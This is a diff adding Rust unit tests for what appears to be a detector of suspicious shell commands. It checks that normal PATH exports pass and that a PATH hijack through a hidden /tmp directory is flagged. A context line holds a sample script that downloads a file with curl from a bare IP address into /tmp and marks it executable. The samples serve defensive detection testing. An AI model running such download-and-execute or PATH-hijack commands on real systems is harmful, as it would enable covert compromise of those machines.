@@ -380,6 +380,9 @@ mod tests {
                 .is_none()
         );
         assert!(command_pattern("/home/dev/.cache/x").is_some());
+        assert!(command_pattern("export PATH=\"/root/.local/bin:$PATH\"").is_none());
+        assert!(command_pattern("export PATH=\"$HOME/.local/bin:$PATH\"").is_none());
+        assert!(command_pattern("PATH=/tmp/.x:$PATH /tmp/.x/kd").is_some());
         let script = "#!/bin/sh\ncurl -fsS -o /tmp/u http://198.51.100.7/u\nchmod +x /tmp/u\n";
         let found = script_patterns(script);
         assert_eq!(found.len(), 1, "{found:?}");
